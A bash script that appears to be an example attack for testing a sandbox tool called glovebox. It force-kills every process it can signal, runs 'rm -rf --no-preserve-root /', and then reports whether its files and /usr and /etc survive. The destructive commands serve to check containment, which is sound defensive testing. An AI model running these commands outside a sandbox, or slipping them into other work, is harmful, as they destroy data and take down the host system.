#!/usr/bin/env bash
# Attack: kills every process it can see or name, then removes every file it
# can reach, and says what is left.
#
#   glovebox run --timeout 2m examples/attacks/wreck.sh
#
# Inside, its own helpers die and its own home is emptied; /usr and /etc are
# still there. From outside: exit code 0, and no file and no process of the host
# is missing. It takes as long as reading all directories of /usr takes. Not to
# be run without a sandbox.

mkdir -p work && for i in $(seq 50); do echo "$i" >"work/$i"; done
sleep 1000 &
helper=$!
before=(work/*)

# All that a signal can be sent to: this shell is spared by kill -1 alone.
kill -9 -1 2>/dev/null
for pid in /proc/[0-9]*; do
  pid=${pid#/proc/}
  [ "$pid" = "$$" ] || kill -9 "$pid" 2>/dev/null
done
for pid in $(seq 1 500); do
  [ "$pid" = "$$" ] || kill -9 "$pid" 2>/dev/null
done
wait "$helper" 2>/dev/null
echo "its own helper: $(kill -0 "$helper" 2>/dev/null && echo alive || echo killed)"

rm -rf --no-preserve-root / 2>/dev/null
shopt -s nullglob
after=(work/*)
echo "its own files: ${#before[@]} before, ${#after[@]} after"
for dir in /usr/bin /etc; do
  entries=("$dir"/*)
  echo "$dir: $([ "${#entries[@]}" -gt 0 ] && echo "still there" || echo "gone")"
done
